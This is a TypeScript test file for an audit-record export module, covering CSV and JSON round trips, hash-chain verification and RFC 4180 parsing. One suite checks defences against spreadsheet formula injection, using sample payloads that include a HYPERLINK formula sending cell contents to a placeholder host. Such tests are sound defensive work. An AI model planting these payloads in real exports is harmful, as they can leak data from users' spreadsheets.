import type { AuditRecord } from '../../src/domain/audit';
import { GENESIS_HASH, recordHash, verifyRecords } from '../../src/domain/audit-chain';
import {
  AuditExportError,
  parseCsv,
  RECORD_COLUMNS,
  csvLine,
  recordCsvLine,
  recordsFromCsv,
  recordsFromJson,
} from '../../src/domain/audit-format';

function records(): AuditRecord[] {
  const contents: Omit<AuditRecord, 'hash' | 'prevHash'>[] = [
    {
      seq: 1,
      id: 'a',
      workflowId: 'cycle-north-1',
      runId: 'r1',
      site: 'north',
      kind: 'cycle',
      type: 'cycle.started',
      at: '2025-05-06T06:00:00Z',
      actor: { who: 'schedule', channel: 'schedule' },
      recordedAt: '2025-05-06T06:00:00.100Z',
    },
    {
      seq: 2,
      id: 'b',
      workflowId: 'cycle-north-1',
      site: 'north',
      kind: 'cycle',
      type: 'human.file-copied',
      at: '2025-05-06T07:00:00+02:00',
      actor: { who: 'Ann "the carrier", ops', channel: 'link', address: '10.0.0.7' },
      data: { comment: 'line one\nline two, with comma', sha256: 'ab'.repeat(32), n: 0, nested: { é: ['x'] } },
      recordedAt: '2025-05-06T07:00:00.100Z',
    },
    {
      seq: 3,
      id: 'c',
      workflowId: 'cycle-north-1',
      site: 'north',
      kind: 'cycle',
      type: 'cycle.ended',
      at: '2025-05-06T09:00:00Z',
      outcome: 'completed',
      data: {},
      recordedAt: '2025-05-06T09:00:00.100Z',
    },
  ];
  const out: AuditRecord[] = [];
  for (const c of contents) {
    const content = { ...c, prevHash: out[out.length - 1]?.hash ?? GENESIS_HASH };
    out.push({ ...content, hash: recordHash(content) });
  }
  return out;
}

describe('audit exports', () => {
  it('read back from CSV as the same records, quotes, commas and newlines included', () => {
    const original = records();
    const text = csvLine(RECORD_COLUMNS) + original.map(recordCsvLine).join('');
    const back = recordsFromCsv(text);
    expect(back).toEqual(original);
    expect(verifyRecords(back).ok).toBe(true);
  });

  it('read back from JSON as the same records', () => {
    const original = records();
    expect(recordsFromJson(JSON.stringify(original))).toEqual(original);
  });

  it('refuse a CSV whose header is not the audit export header', () => {
    expect(() => recordsFromCsv('seq,id\n1,a\n')).toThrow(AuditExportError);
    expect(() => recordsFromCsv('seq,id\n1,a\n')).toThrow('not an audit CSV export');
  });

  it('refuse JSON that is not an array of records, naming the record', () => {
    expect(() => recordsFromJson('{"seq":1}')).toThrow('expected an array of records');
    expect(() => recordsFromJson('[{"seq":"one","hash":"h","prevHash":"p"}]')).toThrow('record #0');
  });

  it('split CSV by RFC 4180, with CRLF or LF line ends', () => {
    expect(parseCsv('a,"b ""q"", c"\r\n"x\ny",\n')).toEqual([
      ['a', 'b "q", c'],
      ['x\ny', ''],
    ]);
    expect(() => parseCsv('a,"unterminated')).toThrow('inside a quoted cell');
  });
});

describe('audit exports opened by a spreadsheet', () => {
  // Records written before --by was checked may hold anything: the export must still be safe.
  function hostile(): AuditRecord[] {
    const whos = ['=HYPERLINK("http://example.invalid/?x="&A1,"Open")', '+1+2', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
    const out: AuditRecord[] = [];
    for (const [i, who] of [...whos, "'=already quoted", "'plain"].entries()) {
      const content = {
        seq: i + 1,
        id: `h${i}`,
        workflowId: 'cycle-north-2',
        site: 'north',
        kind: 'cycle' as const,
        type: 'human.approved',
        at: '2025-05-06T06:00:00Z',
        actor: { who, channel: 'cli' as const },
        outcome: i === 0 ? '=1+1' : undefined,
        recordedAt: '2025-05-06T06:00:00.100Z',
        prevHash: out[out.length - 1]?.hash ?? GENESIS_HASH,
      };
      if (content.outcome === undefined) delete (content as { outcome?: string }).outcome;
      out.push({ ...content, hash: recordHash(content) });
    }
    return out;
  }

  it('hold no cell beginning with = + - @ tab or CR: each is prefixed with a quote and quoted (OWASP)', () => {
    const text = csvLine(RECORD_COLUMNS) + hostile().map(recordCsvLine).join('');
    const cells = parseCsv(text).flat();
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(text).toContain(`"'=HYPERLINK(""http://example.invalid/?x=""&A1,""Open"")"`);
    expect(text).toContain(`"'+1+2"`);
    expect(text).toContain(`"'@SUM(A1)"`);
    expect(text).toContain(`"'\t=1"`);
    expect(text).toContain(`"'=1+1"`);
  });

  it('read back as the same records, so an export with neutralised cells still verifies', () => {
    const original = hostile();
    const back = recordsFromCsv(csvLine(RECORD_COLUMNS) + original.map(recordCsvLine).join(''));
    expect(back).toEqual(original);
    expect(verifyRecords(back)).toMatchObject({ ok: true, count: original.length });
  });
});
